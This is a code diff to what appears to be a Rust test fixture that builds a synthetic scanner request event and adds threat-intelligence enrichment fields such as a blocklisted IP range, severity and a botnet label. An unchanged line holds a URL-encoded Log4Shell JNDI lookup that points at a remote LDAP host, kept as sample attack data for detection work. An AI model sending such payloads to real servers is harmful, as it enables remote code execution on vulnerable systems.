@@ -48,6 +48,22 @@ pub(super) fn probe() -> EventBatch {
         let target = "/?q=%24%7Bjndi:ldap://203.0.113.9/a%7D";
         set(writer, &[(Field::Method, "GET"), (Field::Target, target), (Field::Path, "/")]);
         writer.set(Field::UserAgent, b"Mozilla/5.0 zgrab/0.x");
+        set(
+            writer,
+            &[
+                (Field::ThreatFeed, "blocklist"),
+                (Field::ThreatIndicator, "198.51.100.0/24"),
+                (Field::ThreatType, "ipv4-addr"),
+                (Field::ThreatMatched, "source.ip"),
+                (Field::ThreatSeverity, "high"),
+                (Field::ThreatConfidence, "High"),
+                (Field::ThreatTlp, "GREEN"),
+                (Field::ThreatDescription, "botnet"),
+                (Field::ThreatReference, "https://cti.example.org/7"),
+                (Field::ThreatSince, "2026-11-17T10:00:00.000Z"),
+                (Field::ThreatNote, "botnet; list of 2026-11-19"),
+            ],
+        );
     })
 }
 
